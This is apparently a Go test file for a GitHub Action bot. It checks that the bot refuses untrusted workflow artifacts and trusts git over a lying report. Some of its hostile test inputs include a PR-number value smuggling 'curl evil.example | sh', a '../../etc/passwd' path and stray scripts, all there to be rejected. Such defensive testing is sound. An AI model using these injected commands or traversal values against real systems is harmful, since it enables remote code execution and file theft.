package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/connectbot/connectbot/internal/forge/forgetest"
)

// validateReport is what `connectbot validate --format json` prints for
// the broken samples, the report a validate run uploads.
func validateReport(t *testing.T) []byte {
	t.Helper()
	var stdout, stderr bytes.Buffer
	if code := Main([]string{"validate", "--repo", "testdata/broken", "--now", "2026-11-25", "--format", "json"}, &stdout, &stderr, fixedNow); code != exitFound {
		t.Fatalf("validate: exit %d %s", code, stderr.String())
	}
	return stdout.Bytes()
}

// writeArtifact lays out an artifact as download-artifact leaves it.
func writeArtifact(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "artifact")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, content := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestReadArtifactRefusesWhatIsNotTheReport(t *testing.T) {
	report := string(validateReport(t))
	tests := []struct {
		name  string
		files map[string]string
		setup func(t *testing.T, dir string)
		want  string // "" means accepted
	}{
		{"the report and the number", map[string]string{"pr-number": "7\n", "report.json": report}, nil, ""},
		{"a review run's number alone", map[string]string{"pr-number": "7\n"}, nil, ""},
		{"no number", map[string]string{"report.json": report}, nil, "pr-number is missing"},
		{"a number with a command in it", map[string]string{"pr-number": "7; curl evil.example | sh\n"}, nil, "is not a pull request number"},
		{"a negative number", map[string]string{"pr-number": "-7"}, nil, "is not a pull request number"},
		{"a leading zero", map[string]string{"pr-number": "07"}, nil, "is not a pull request number"},
		{"a huge number file", map[string]string{"pr-number": strings.Repeat("7", 100)}, nil, "more than the 32 allowed"},
		{"an extra file", map[string]string{"pr-number": "7", "run.sh": "#!/bin/sh\n"}, nil, `unexpected file "run.sh"`},
		{"a report with an unknown field", map[string]string{"pr-number": "7", "report.json": `{"files":[],"errors":0,"warnings":0,"merge":true}`}, nil, "unknown field"},
		{"a report whose counts lie", map[string]string{"pr-number": "7", "report.json": `{"files":[],"errors":3,"warnings":0}`}, nil, "counts 3 errors"},
		{"a report about a file outside applications/", map[string]string{"pr-number": "7",
			"report.json": `{"files":[{"path":"../../etc/passwd","slug":"x","valid":true,"findings":[]}],"errors":0,"warnings":0}`}, nil, "is not an application file"},
		{"two JSON documents", map[string]string{"pr-number": "7", "report.json": `{"files":[],"errors":0,"warnings":0}{}`}, nil, "more than one JSON document"},
		{"a report too large to read", map[string]string{"pr-number": "7", "report.json": strings.Repeat(" ", maxReportBytes+1)}, nil, "allowed"},
		{"the number as a symbolic link", map[string]string{"report.json": report}, func(t *testing.T, dir string) {
			secret := filepath.Join(t.TempDir(), "secret")
			os.WriteFile(secret, []byte("7\n"), 0o600)
			if err := os.Symlink(secret, filepath.Join(dir, "pr-number")); err != nil {
				t.Skip(err)
			}
		}, "not a regular file"},
		{"a directory named like the number", map[string]string{}, func(t *testing.T, dir string) {
			os.Mkdir(filepath.Join(dir, "pr-number"), 0o755)
		}, "not a regular file"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := writeArtifact(t, tt.files)
			if tt.setup != nil {
				tt.setup(t, dir)
			}
			a, err := readArtifact(dir)
			switch {
			case tt.want == "" && err != nil:
				t.Fatalf("refused: %v", err)
			case tt.want == "" && a.PR != 7:
				t.Errorf("pull request %d, want 7", a.PR)
			case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)):
				t.Errorf("err = %v, want one saying %q", err, tt.want)
			}
		})
	}
	if _, err := readArtifact(filepath.Join(t.TempDir(), "missing")); err != errNoArtifact {
		t.Errorf("a missing artifact: err = %v, want errNoArtifact", err)
	}
}

// runDelivery is the recorded workflow_run completed delivery
// (internal/webhook/actionsdata), made into the run of this repository's
// validate workflow on a pull request's head: only workflow_run.event,
// .name, .head_sha, .conclusion, .pull_requests and repository.full_name
// change.
func runDelivery(t *testing.T, workflow, event, conclusion, headSHA string, prs ...int) string {
	t.Helper()
	return actionsDelivery(t, "workflow_run/completed.payload.json", func(p map[string]any) {
		r := p["workflow_run"].(map[string]any)
		r["event"], r["name"], r["head_sha"], r["conclusion"] = event, workflow, headSHA, conclusion
		list := []any{}
		for _, n := range prs {
			list = append(list, map[string]any{"number": n, "id": n, "url": "https://api.github.com/repos/acme-program/connect/pulls/" + itoa(n),
				"head": map[string]any{"ref": "x", "sha": headSHA, "repo": map[string]any{"id": 1, "name": "connect", "url": "https://api.github.com/repos/acme-program/connect"}},
				"base": map[string]any{"ref": "main", "sha": headSHA, "repo": map[string]any{"id": 1, "name": "connect", "url": "https://api.github.com/repos/acme-program/connect"}}})
		}
		r["pull_requests"] = list
	})
}

func TestActionReportsOnAValidateRunFromItsArtifact(t *testing.T) {
	srv := seed(t)
	acme, _ := os.ReadFile("../../applications/acme-sync.cue")
	bad := strings.Replace(string(acme), `auth:         "oauth2"`, `auth:         "api_key"`, 1)
	head := srv.Commit("acme-edit", "Edit", map[string]string{"applications/acme-sync.cue": bad})
	pr := srv.OpenPR(forgetest.PRSpec{Author: "acme-dev", Title: "Edit", Head: "acme-edit", HeadRepo: "acme-dev/connect"})
	// The artifact a (possibly rewritten) validate run uploaded: it says
	// "all good", and names the pull request. Only the name counts.
	lying := `{"files":[{"path":"applications/acme-sync.cue","slug":"acme-sync","valid":true,"findings":[]}],"errors":0,"warnings":0}` + "\n"
	t.Setenv("CONNECTBOT_ARTIFACT_DIR", writeArtifact(t, map[string]string{"pr-number": itoa(pr) + "\n", "report.json": lying}))

	// A fork's run: GitHub lists no pull requests on it.
	event := runDelivery(t, "validate", "pull_request", "success", head)
	t.Setenv("CONNECTBOT_DRY_RUN", "true")
	code, out, errOut := runActionWith(t, srv, "workflow_run", event)
	if code != 0 || !strings.Contains(out, "would post the check \"connectbot\": failure") || len(srv.CheckRuns(head)) != 0 {
		t.Fatalf("dry run: exit %d, %d checks\n%s%s", code, len(srv.CheckRuns(head)), out, errOut)
	}
	t.Setenv("CONNECTBOT_DRY_RUN", "")
	code, out, errOut = runActionWith(t, srv, "workflow_run", event)
	if code != 0 {
		t.Fatalf("exit %d\n%s%s", code, out, errOut)
	}
	if runs := srv.CheckRuns(head); len(runs) != 1 || runs[0].Conclusion != "failure" {
		t.Fatalf("the check says what git says, not what the artifact says: %+v\n%s", runs, out)
	}
	if len(srv.Comments(pr)) != 1 || !strings.Contains(out, "(not trusted: connectbot judges from git)") {
		t.Errorf("comments %+v\n%s", srv.Comments(pr), out)
	}

	// The pull request moved on since the run: its own run reports.
	srv.Commit("acme-edit", "Again", map[string]string{"applications/acme-sync.cue": bad + "\n"})
	code, out, _ = runActionWith(t, srv, "workflow_run", event)
	if code != 0 || !strings.Contains(out, "nothing to do (the run of its head reports)") || len(srv.CheckRuns(head)) != 1 {
		t.Errorf("stale run: exit %d\n%s", code, out)
	}
}

func TestActionRefusesAReportThatDoesNotAddUp(t *testing.T) {
	srv := seed(t)
	acme, _ := os.ReadFile("../../applications/acme-sync.cue")
	head := srv.Commit("acme-edit", "Edit", map[string]string{"applications/acme-sync.cue": string(acme) + "\n"})
	pr := srv.OpenPR(forgetest.PRSpec{Author: "acme-dev", Title: "Edit", Head: "acme-edit"})
	other := srv.Commit("other", "Other", map[string]string{"applications/acme-sync.cue": string(acme) + "\n\n"})
	otherPR := srv.OpenPR(forgetest.PRSpec{Author: "acme-dev", Title: "Other", Head: "other"})

	tests := []struct {
		name     string
		event    string
		artifact map[string]string
		wantExit int
		wantOut  string
	}{
		{"an artifact naming another pull request than GitHub lists", runDelivery(t, "validate", "pull_request", "success", head, pr),
			map[string]string{"pr-number": itoa(otherPR)}, exitCantRun, "but the run was for"},
		{"an artifact naming a pull request at another commit", runDelivery(t, "validate", "pull_request", "success", head),
			map[string]string{"pr-number": itoa(otherPR)}, exitOK, "is at " + other[:7] + ", not at " + head[:7]},
		{"an artifact with a script in it", runDelivery(t, "validate", "pull_request", "success", head),
			map[string]string{"pr-number": itoa(pr), "post.sh": "curl evil"}, exitCantRun, "artifact is refused"},
		{"a cancelled run", runDelivery(t, "validate", "pull_request", "cancelled", head),
			map[string]string{"pr-number": itoa(pr)}, exitOK, "nothing to report"},
		{"a run of a push", runDelivery(t, "validate", "push", "success", head),
			map[string]string{"pr-number": itoa(pr)}, exitOK, "reports on no pull request"},
		{"a run that left no artifact", runDelivery(t, "validate", "pull_request", "failure", head),
			nil, exitOK, "left no artifact"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "none")
			if tt.artifact != nil {
				dir = writeArtifact(t, tt.artifact)
			}
			t.Setenv("CONNECTBOT_ARTIFACT_DIR", dir)
			code, out, errOut := runActionWith(t, srv, "workflow_run", tt.event)
			if code != tt.wantExit || !strings.Contains(out+errOut, tt.wantOut) {
				t.Errorf("exit %d (want %d)\n%s%s\nwant it to say %q", code, tt.wantExit, out, errOut, tt.wantOut)
			}
			if len(srv.CheckRuns(head))+len(srv.CheckRuns(other))+len(srv.Comments(pr))+len(srv.Comments(otherPR)) != 0 {
				t.Errorf("something was posted")
			}
		})
	}
}
